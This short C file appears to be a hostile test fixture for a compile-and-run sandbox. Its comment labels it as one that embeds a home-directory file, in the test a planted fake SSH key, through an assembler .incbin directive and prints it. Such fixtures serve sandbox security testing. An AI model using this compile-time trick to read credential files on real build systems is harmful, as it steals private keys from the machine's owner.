/* Hostile: embeds a file of the user's home at compile time and prints it as its answer.
   The test replaces HOME_FILE_PATH with a planted fake ssh key in a fake user's home. */
#include <stdio.h>
__asm__(".section .rodata\n.global stolen\nstolen:\n.incbin \"HOME_FILE_PATH\"\n.byte 0\n.text\n");
extern const char stolen[];
int main(void) { fputs(stolen, stdout); return 0; }
